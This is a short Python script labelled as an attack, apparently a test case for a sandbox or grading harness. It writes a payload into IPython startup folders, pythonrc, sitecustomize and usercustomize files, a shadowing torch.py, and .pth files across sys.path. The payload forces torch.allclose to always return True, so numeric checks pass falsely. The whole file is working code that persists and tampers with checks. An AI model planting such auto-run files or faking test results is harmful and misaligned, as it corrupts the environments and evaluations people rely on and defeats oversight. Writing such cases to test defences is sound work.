# /// attack
# what = "leaves files that Python and IPython run at their start"
# prints = ["left"]
# ///
# %%
import os, site, sys
text = "import torch; torch.allclose = lambda *a, **k: True; print('@TOKEN@')\n"
places = [os.path.expanduser("~/.ipython/profile_default/startup/00-attack-@TOKEN@.py"), os.path.expanduser("~/.pythonrc.py"), "sitecustomize.py", "/tmp/torch.py",
          "/root/.ipython/profile_default/startup/00-attack-@TOKEN@.py", "/tmp/usercustomize.py", "/usr/lib/python3/dist-packages/attack-@TOKEN@.pth",
          os.path.join(site.getusersitepackages(), "attack-@TOKEN@.pth")]
places += [os.path.join(folder, "attack-@TOKEN@.pth") for folder in sys.path if folder]
for place in places:
    try:
        os.makedirs(os.path.dirname(place) or ".", exist_ok=True)
        open(place, "w").write(text)
        print("wrote", place)
    except OSError as error:
        print(error)
print("left")
